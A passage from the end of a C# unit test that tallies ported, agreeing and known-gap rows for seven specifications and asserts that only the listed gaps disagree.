        var report = string.Join("\n", rows.GroupBy(r => r.Spec).Select(g =>
            $"{g.Key}: ported {g.Count()}, agreeing {g.Count(r => r.Agrees)}, known gaps {g.Count(r => r.Gap != null)}"));
        // Every row agrees except the listed gaps, which disagree (the theories above hold each row to it).
        Assert.True(rows.All(r => r.Agrees == (r.Gap == null)), report);
        Assert.Equal(7, rows.Select(r => r.Spec).Distinct().Count());
        Console.WriteLine(report);
    }
}
